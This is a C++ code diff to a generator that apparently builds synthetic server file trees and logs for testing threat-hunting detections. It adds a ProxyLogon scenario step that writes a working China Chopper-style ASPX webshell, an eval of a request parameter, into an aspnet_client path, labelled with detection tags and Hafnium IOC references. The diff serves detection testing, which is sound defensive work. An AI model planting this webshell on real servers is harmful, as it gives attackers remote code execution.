@@ -1,5 +1,6 @@
 #include "tree_generator.h"
 
+#include <fcntl.h>
 #include <sys/stat.h>
 
 #include <algorithm>
@@ -7,6 +8,7 @@
 #include <cmath>
 #include <cstdio>
 #include <cstring>
+#include <fstream>
 #include <functional>
 #include <map>
 #include <memory>
@@ -187,6 +189,23 @@ class Server {
     }
     uint64_t n = it->second->Append(line);
     return {rel, n};
+  }
+
+  // Plants a file (a webshell on disk) at `rel`, modified at `t`; its truth
+  // place is the file itself (line 0).
+  std::pair<std::string, uint64_t> PlantFile(const std::string& rel, const std::string& content, TimeMs t) {
+    std::string full = o_.out + "/" + rel;
+    if (!MakeDirs(full.substr(0, full.rfind('/')))) ok_ = false;
+    std::ofstream f(full, std::ios::binary | std::ios::trunc);
+    f << content;
+    f.close();
+    if (!f) ok_ = false;
+    struct timespec times[2];
+    times[0].tv_sec = times[1].tv_sec = t / 1000;
+    times[0].tv_nsec = times[1].tv_nsec = (t % 1000) * 1000000;
+    utimensat(AT_FDCWD, full.c_str(), times, 0);
+    res_->files++;
+    return {rel, 0};
   }
 
   void CloseBefore(TimeMs t) {
@@ -691,6 +710,18 @@ void PlantProxyLogon(TimeMs t0, const std::string& install_win, std::vector<Plan
                 "exchange.proxylogon.oab_download_outside");
        },
        "proxylogon"});
+  // The shell the requests below reach, on disk where the OAB export put it.
+  out->push_back({t0 + 10600,
+                  [=](Server& s, Traces& tr) {
+                    auto where = s.PlantFile("inetpub/wwwroot/aspnet_client/discover.aspx",
+                                             "<script language=\"JScript\" runat=\"server\">function Page_Load(){"
+                                             "eval(Request[\"exec_code\"],\"unsafe\");}</script>\r\n",
+                                             t0 + 10600);
+                    tr.Add(where, "exhunt_webshell_china_chopper_eval");
+                    tr.Add(where, "exhunt.file.page_in_aspnet_client");
+                    tr.Add(where, "ioc:hafnium-filename-iocs.txt:high");
+                  },
+                  "proxylogon"});
   for (int i = 0; i < 3; ++i) {
     TimeMs t = t0 + 60000 + i * 7000;
     out->push_back({t,
